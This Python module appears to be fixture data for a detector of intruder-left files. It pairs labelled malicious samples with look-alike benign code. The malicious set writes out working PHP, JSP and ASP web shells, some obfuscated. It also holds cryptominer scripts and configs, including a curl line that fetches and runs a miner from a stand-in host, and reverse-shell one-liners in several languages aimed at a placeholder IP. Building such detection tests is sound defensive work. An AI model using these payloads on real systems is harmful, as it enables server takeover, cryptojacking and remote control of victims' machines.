"""Small files as intruders leave them, and files of honest work that look like them."""

BLOCK = "aGVsbG8gd29ybGQg" * 200
MALICIOUS = {
    "php-eval-post": ("<?php @eval($_POST['x']);", "php_shell_evaluates_request"),
    "php-assert-decoded": (
        "<?php assert(base64_decode($_REQUEST['q']));",
        "php_shell_evaluates_request",
    ),
    "php-eval-body": (
        "<?php eval('?>' . file_get_contents('php://input'));",
        "php_shell_evaluates_request",
    ),
    "php-preg-replace-e": (
        "<?php preg_replace('/.*/e', $_POST['c'], '');",
        "php_shell_evaluates_request",
    ),
    "php-system-get": ("<?= system($_GET['cmd']); ?>", "php_shell_runs_request"),
    "php-exec-shouted": ('<?PHP PASSTHRU( $_REQUEST ["c"]) ;', "php_shell_runs_request"),
    "php-backticks": ("<?php echo `{$_GET['c']}`;", "php_shell_runs_request"),
    "php-header": ("<?php system($_SERVER['HTTP_X_RUN']);", "php_shell_runs_request"),
    "php-two-requests": ("<?php $_GET['f']($_POST['a']);", "php_shell_calls_request"),
    "php-callback": (
        "<?php array_map($_GET['f'], array($_GET['a']));",
        "php_shell_calls_request",
    ),
    "php-short-shell": (
        "<?php\nif(isset($_REQUEST['cmd'])){\n  $cmd = ($_REQUEST['cmd']);\n"
        "  $cmd = $_REQUEST['cmd'];\n  system($cmd);\n}",
        "php_shell_passes_request_on",
    ),
    "php-named-shell": (
        "<?php // b374k 2.8\nif ($_POST['x']) { eval(gzinflate($z)); }",
        "php_shell_known_by_name",
    ),
    "php-panel": (
        "<?php echo php_uname(), ini_get('disable_functions'); posix_getpwuid(1);\n"
        "if (function_exists('shell_exec')) echo fileperms($_GET['dir']);\n",
        "php_shell_panel",
    ),
    "php-in-gif": ("GIF89a;\n<?php system($_GET[0]); ?>", "php_in_image"),
    "php-chain": (
        "<?php eval(gzinflate(base64_decode('80jNyckHAA==')));",
        "php_evaluates_decoded_text",
    ),
    "php-rotated": (
        "<?php $f = str_rot13('riny'); @assert(str_rot13(\"flfgrz('vq');\"));",
        "php_evaluates_decoded_text",
    ),
    "php-hex-name": (
        r'<?php $f = "\x73\x79\x73\x74\x65\x6d"; $f($_GET["a"]);',
        "php_hides_function_names",
    ),
    "php-cut-name": (
        "<?php $f = 'base' . '64_decode'; $g = $f('eA==');",
        "php_hides_function_names",
    ),
    "php-reversed": ("<?php $f = strrev('edoced_46esab');", "php_hides_function_names"),
    "php-numbers": (
        "<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); eval($f);",
        "php_builds_code_from_numbers",
    ),
    "php-block": (
        f"<?php $d = '{BLOCK}'; $c = base64_decode($d); eval($c);",
        "php_evaluates_packed_block",
    ),
    "jsp-exec": (
        '<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
        "jsp_shell_runs_request",
    ),
    "jsp-define-class": (
        "<%! class U extends ClassLoader { Class g(byte[] b) { return super.defineClass(b, 0, 9); }"
        ' } %><% Cipher c = Cipher.getInstance("AES"); new U().g(c.doFinal(new sun.misc.'
        "BASE64Decoder().decodeBuffer(request.getReader().readLine()))); %>",
        "jsp_shell_loads_request",
    ),
    "asp-eval": ('<%eval request("pass")%>', "asp_shell_evaluates_request"),
    "aspx-eval": (
        '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>',
        "asp_shell_evaluates_request",
    ),
    "aspx-process": (
        '<%@ Page Language="C#"%><% var p = new ProcessStartInfo(); p.FileName = "cmd.exe";'
        ' p.Arguments = "/c " + Request.Form["c"]; Process.Start(p); %>',
        "asp_shell_runs_request",
    ),
    "asp-wscript": (
        '<% Set s = Server.CreateObject("WScript.Shell")\n'
        'Set r = s.exec("cmd.exe /c " & Request.QueryString("c")) %>',
        "asp_shell_runs_request",
    ),
    "miner-program": (
        "\x7fELF\x02\x01 XMRig 6 --donate-level stratum+ssl:// randomx",
        "miner_program",
    ),
    "miner-fetched": (
        "#!/bin/sh\ncurl -sL https://host.example/xmrig-6.tar.gz | tar xz\nnohup ./x &\n",
        "miner_script",
    ),
    "miner-config": (
        '{"donate-level": 1, "randomx": {"mode": "auto"}, "pools": [{"algo": "rx/0",'
        ' "url": "pool.example:3333", "user": "4Ab", "rig-id": null}]}',
        "miner_settings",
    ),
    "miner-script": (
        "#!/bin/sh\nnohup ./xmrig -o stratum+tcp://pool.example:3333 -u 4Ab -p x &\n",
        "miner_script",
    ),
    "miner-page": (
        "<script>new CoinHive.Anonymous('key', {throttle: 0.2}).start();</script>",
        "miner_in_page",
    ),
    "shell-bash": ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", "reverse_shell_in_shell"),
    "shell-bash-loop": (
        "exec 5<>/dev/tcp/203.0.113.9/443; cat <&5 | while read l; do $l 2>&5 >&5; done\n",
        "reverse_shell_in_shell",
    ),
    "shell-netcat": ("* * * * * root nc -e /bin/sh 203.0.113.9 4444\n", "reverse_shell_in_shell"),
    "shell-netcat-last": (
        "/usr/bin/ncat 203.0.113.9 4444 -e /bin/bash\n",
        "reverse_shell_in_shell",
    ),
    "shell-mkfifo": (
        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 >/tmp/f\n",
        "reverse_shell_in_shell",
    ),
    "shell-socat": (
        "socat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.9:4444\n",
        "reverse_shell_in_shell",
    ),
    "shell-python": (
        "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.9',4444))\n"
        "[os.dup2(s.fileno(),fd) for fd in (0,1,2)]\npty.spawn('/bin/bash')\n",
        "reverse_shell_in_script",
    ),
    "shell-perl": (
        'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");'
        'open(STDOUT,">&S");exec("/bin/sh -i");\n',
        "reverse_shell_in_script",
    ),
    "shell-perl-fdopen": (
        'perl -MIO -e \'use IO::Socket;$c=IO::Socket::INET->new("203.0.113.9:4444");'
        'STDIN->fdopen($c,"r");$~->fdopen($c,"w");exec("/bin/bash");\'\n',
        "reverse_shell_in_script",
    ),
    "shell-ruby": (
        'f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)\n',
        "reverse_shell_in_script",
    ),
    "shell-php": (
        "<?php $s=fsockopen('203.0.113.9',4444);exec('/bin/sh -i <&3 >&3 2>&3');",
        "reverse_shell_in_script",
    ),
    "shell-powershell": (
        "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.9',4444);$s = $c.GetStream();\n"
        "[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0)"
        "{$r = (iex $d 2>&1 | Out-String)}\n",
        "reverse_shell_in_powershell",
    ),
}
BENIGN = {
    "php-decodes-settings": (
        "<?php\nnamespace App;\nclass Session {\n  public function load(): array {\n"
        "    $raw = base64_decode($_COOKIE['session'] ?? '', true);\n"
        "    return $raw === false ? [] : json_decode(gzinflate($raw), true);\n  }\n}\n"
    ),
    "php-embedded-image": f"<?php\n$logo = base64_decode('{BLOCK}');\nimagecreate($logo);\n",
    "php-ping-quoted": (
        "<?php\n$host = escapeshellarg($_GET['host']);\n"
        'echo shell_exec("ping -c 1 " . $host);\nsystem(escapeshellcmd($_POST["tool"]));\n'
    ),
    "php-fixed-command": "<?php $version = shell_exec('git rev-parse HEAD'); system('date');",
    "php-template-engine": (
        "<?php\nclass View {\n  function render($file, $data) { extract($data);\n"
        "    ob_start(); eval('?>' . $this->compile($file)); return ob_get_clean(); }\n}\n"
    ),
    "php-comment-of-request": "<?php\n/** Reads `$_POST['do']` and `$_GET['cmd']`. */\nrun();\n",
    "php-binary-header": "<?php return chr(0x89).chr(80).chr(78).chr(71).chr(13).chr(10) . $data;",
    "php-word-list": "<?php return ['b374k', 'c99shell', 'r57shell', 'weevely', 'FilesMan'];",
    "php-markdown": "Never write `eval($_POST['x'])` or `system($_GET['c'])` in a page.\n",
    "jsp-memory": '<% out.print(Runtime.getRuntime().freeMemory()); request.getParameter("q"); %>',
    "aspx-form": '<%@ Page Language="C#"%><% var q = Request.Form["q"]; Response.Write(q); %>',
    "js-bundle": 'var t = "<%= name %>"; executeRequest(a); this.eval = request.eval;',
    "sysadmin-netcat": (
        "#!/bin/sh\nset -e\nfor host in web-1 web-2; do nc -z -w 2 $host 22 || exit 1; done\n"
        "nc -l -p 9000 > dump.sql\ntar -c /etc | nc -N backup 9000\nnc -e 2>&1; sh deploy.sh\n"
    ),
    "sysadmin-port-check": (
        "#!/bin/bash\nuntil (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done\n"
        "exec 3<>/dev/tcp/web/80\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3\nbash -i\n"
    ),
    "sysadmin-fifo": "#!/bin/sh\nmkfifo /run/feed\ncat /run/feed | sh -s 2>&1 | logger &\n",
    "sysadmin-socat": "socat TCP-LISTEN:80,fork TCP:web:8080\nsocat exec:mail.sh tcp:mail:25\n",
    "python-daemon": (
        "import os, socket, subprocess\ns = socket.socket()\ns.connect(('db', 5432))\n"
        "null = os.open(os.devnull, os.O_RDWR)\nos.dup2(null, 0)\nos.dup2(log.fileno(), 1)\n"
        "subprocess.run(['systemctl', 'reload', 'nginx'])\n"
    ),
    "perl-client": 'use IO::Socket::INET;\nmy $s = IO::Socket::INET->new("db");\nexec("ls");\n',
    "pool-settings": '{"pools": [{"url": "db.example:5432", "user": "app"}], "algo": "sha256"}',
    "monero-article": "Miners such as xmrig talk stratum+tcp://pool:3333 and use RandomX.\n",
    "powershell-port-check": (
        "$c = New-Object System.Net.Sockets.TCPClient('web', 80)\n$s = $c.GetStream()\n$c.Close()\n"
    ),
}
